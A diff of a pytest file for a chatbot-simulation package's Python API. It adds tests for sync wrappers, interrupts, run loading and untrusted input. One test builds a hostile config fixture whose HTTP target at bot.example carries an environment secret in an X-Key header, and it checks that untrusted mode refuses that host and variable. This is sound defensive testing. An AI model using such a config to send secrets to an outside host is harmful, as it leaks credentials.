@@ -1,14 +1,31 @@
 """The Python API: a client, a callable, a run."""
 
+import asyncio
+import contextlib
+import inspect
 import json
 import os
+import shutil
+import signal
+import tempfile
+import threading
 from functools import partial
 from pathlib import Path
 
 import pytest
 
 import simulator
-from simulator import Options, Reply, load, score, simulate
+from simulator import (
+    Options,
+    Reply,
+    config,
+    load,
+    load_run,
+    score,
+    score_sync,
+    simulate,
+    simulate_sync,
+)
 from simulator.core.errors import InputError
 from tests.build.clients import SCENARIOS, client
 from tests.loopback.server import ChatServer
@@ -137,13 +154,75 @@ async def test_a_log_that_cannot_be_written_ends_it_before_anything_runs(
     assert not (tmp_path / "runs.db").exists()
 
 
+OFFERED = {
+    *("Options", "Reply", "Run", "__version__", "load", "load_run", "progress"),
+    *("score", "score_sync", "simulate", "simulate_sync"),
+}
+
+
 def test_the_package_offers_this_and_no_more() -> None:
-    assert {"Options", "Reply", "Run", "__version__", "load", "score", "simulate"} == set(
-        simulator.__all__
-    )
+    assert OFFERED == set(simulator.__all__) == set(dir(simulator))
     assert all(getattr(simulator, name) for name in simulator.__all__)
     with pytest.raises(AttributeError, match="no attribute 'nothing'"):
         simulator.nothing  # noqa: B018
+
+
+def test_code_that_is_not_async_waits_for_the_run(tmp_path: Path, store: str) -> None:
+    run = simulate_sync(client(tmp_path, LINES), target=answer, store=store)
+    assert ("finished", 4) == (run.header.status, run.summary.conversations)
+    assert inspect.signature(simulate) == inspect.signature(simulate_sync)
+    (tmp_path / "answers.csv").write_text(ANSWERS, "utf-8")
+    scored = score_sync("answers.csv", options=Options(metrics=("sudachi_f1",)), store=store)
+    assert 2 == scored.summary.conversations
+
+
+async def test_it_waits_inside_of_a_running_loop_too(tmp_path: Path, store: str) -> None:
+    here = threading.current_thread()
+    threads = set()
+
+    async def said(question: str, history: object) -> str:
+        threads.add(threading.current_thread())
+        return "はい。"
+
+    with config.untrusting():  # what holds here holds there
+        refused = pytest.raises(InputError, match="--untrusted")
+        with refused:
+            simulate_sync("acme" if client(tmp_path, LINES) else "", store=store)
+    run = simulate_sync(client(tmp_path, LINES), target=said, store=store)
+    assert 4 == run.summary.conversations
+    assert threads
+    assert here not in threads
+
+
+def test_who_interrupts_it_in_a_notebook_finds_what_was_done(tmp_path: Path, store: str) -> None:
+    async def never(question: str, history: object) -> None:
+        signal.pthread_kill(threading.main_thread().ident or 0, signal.SIGINT)
+        await asyncio.Event().wait()
+
+    async def cell() -> None:
+        simulate_sync(client(tmp_path, LINES), target=never, store=store)
+
+    loop = asyncio.new_event_loop()  # which leaves an interrupt to the cell, as a kernel's does
+    with contextlib.closing(loop), pytest.raises(KeyboardInterrupt):
+        loop.run_until_complete(cell())
+    left = load_run(store=store)
+    assert ("interrupted", 4) == (left.header.status, left.summary.unfinished)
+
+
+def test_a_run_of_the_store_is_the_run_that_was_made(tmp_path: Path, store: str) -> None:
+    made = simulate_sync(client(tmp_path, LINES), target=answer, store=store)
+    read = load_run(made.header.id[:4], store=store)
+    assert made.summary == read.summary
+    assert list(made.episodes()) == list(read.episodes())
+    with pytest.raises(InputError, match="no run"):
+        load_run("zz", store=store)
+
+
+def test_what_a_prompt_shows_of_a_run_and_of_a_client_is_a_line(tmp_path: Path, store: str) -> None:
+    loaded = client(tmp_path, LINES)
+    run = simulate_sync(loaded, target=answer, store=store)
+    assert f"<Run {run.header.id} · acme · finished · 4 unchecked · no score>" == repr(run)
+    assert "<LoadedClient acme · 2 scenarios · 2 personas · target function>" == repr(loaded)
 
 
 ANSWERS = "質問,回答,正解\n送料は,500円です,送料は500円です\n返品は,できません,できます\n"
@@ -179,3 +258,37 @@ async def test_where_the_scores_cannot_go_is_said_before_anything_runs(
     with pytest.raises(InputError, match="is the file that is read"):
         await score("answers.csv", output="answers.csv", store=store)
     assert not (tmp_path / "runs.db").exists()
+
+
+async def test_a_folder_that_came_by_mail_is_played_without_trust(
+    tmp_path: Path, store: str, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    monkeypatch.setenv("STOLEN", "canary")
+    least = "language: ja\npersonas: [calm]\ntarget: {kind: http, url: 'http://HOST/'KEY}\n"
+    bad = least.replace("HOST", "bot.example").replace("KEY", ", headers: {X-Key: '${STOLEN}'}")
+    trusted = client(tmp_path, LINES, least=bad)
+    for given in ("acme", trusted):
+        with pytest.raises(InputError, match=r"refuses the host http://bot\.example") as refused:
+            await simulate(given, store=store, untrusted=True)
+        assert "refuses the variable STOLEN" in str(refused.value)
+    with pytest.raises(InputError, match="refuses the variable STOLEN"):
+        load("acme", untrusted=True)
+    assert "canary" == config.secret("STOLEN")  # it held for that call alone
+    client(tmp_path, LINES, least=least.replace("HOST", "127.0.0.1:1").replace("KEY", ""))
+    run = await simulate("acme", target=answer, store=store, untrusted=True)
+    assert 2 == run.summary.conversations
+    assert "target_failed" not in run.summary.stops
+
+
+async def test_files_may_lie_where_the_call_allows_it(tmp_path: Path, store: str) -> None:
+    client(tmp_path, LINES)
+    with tempfile.TemporaryDirectory() as elsewhere:
+        scenarios = tmp_path / "scenarios" / "acme" / "scenarios.yaml"
+        shutil.copy(scenarios, elsewhere)
+        scenarios.unlink()
+        scenarios.symlink_to(Path(elsewhere) / "scenarios.yaml")
+        with pytest.raises(InputError, match="--allow"):
+            load("acme")
+        assert load("acme", allow=[elsewhere]).scenarios
+        run = await simulate("acme", target=answer, store=store, allow=[Path(elsewhere)])
+    assert 4 == run.summary.conversations
